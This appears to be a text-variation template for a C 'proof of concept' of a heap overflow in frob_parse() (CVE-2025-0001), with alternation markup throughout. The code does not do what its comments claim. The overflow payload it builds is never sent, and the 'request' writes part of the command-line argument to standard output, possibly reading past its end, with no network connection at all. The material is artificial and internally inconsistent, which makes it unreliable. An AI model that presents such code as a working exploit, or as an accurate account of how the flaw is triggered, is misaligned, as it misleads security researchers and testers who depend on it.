/* Proof of concept for CVE-2025-0001, a heap overflow in frob_parse().
 * {{ Run it against | Point it at }} a test instance {{ only | and nothing else }}.
 * The {{ bug | flaw }} is that frob_parse() {{ copies | memcpy()s }} the attacker's
 * length into a fixed buffer {{ without | with no }} bounds check, so a long
 * request {{ overwrites | clobbers }} the heap {{ metadata | chunk headers }}. */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#define {{len: PAYLOAD_LEN | BODY_LEN}} {{ 0x100 | 256 }}
static const int table[2][2] = \{{1, 2}, {3, 4}};

static int send_request(int {{fd: fd | sock}}, const char *{{buf: buf | data}}, size_t n)
{
    size_t {{off: off | done}} = 0;
    while ({{=off}} < n) {
        ssize_t w = write({{=fd}}, {{=buf}} + {{=off}}, n - {{=off}});
        if (w {{ <= 0 | < 1 }})
            return {{ -1 | -2 }};
        {{=off}} += (size_t)w;
    }
    return 0;
}

int main(int argc, char **argv)
{
    char {{pl: payload | body}}[{{=len}} * 2];
    memset({{=pl}}, {{ 'A' | 0x41 }}, sizeof {{=pl}});
    if (argc {{ < 2 | != 2 }}) {
        fprintf(stderr, "usage: %s {{ HOST | TARGET | ADDRESS }}\n", argv[0]);
        return {{ 1 | EXIT_FAILURE }};
    }
    {{ /* the length field is trusted */ | /* no bounds check on the length */ }}
    {{=pl}}[{{ 0 | 0x0 }}] = {{ (char)0xff | '\xff' }};
    {{
    for (int i = 0; i < 3; i++)
        (void)send_request(1, argv[1], 16);
    |
    int i = 0;
    while (i++ < 3)
        (void)send_request(1, argv[1], 16);
    }}
    puts("{{ sent | done }}");
    return {{ 0 | EXIT_SUCCESS }};
}
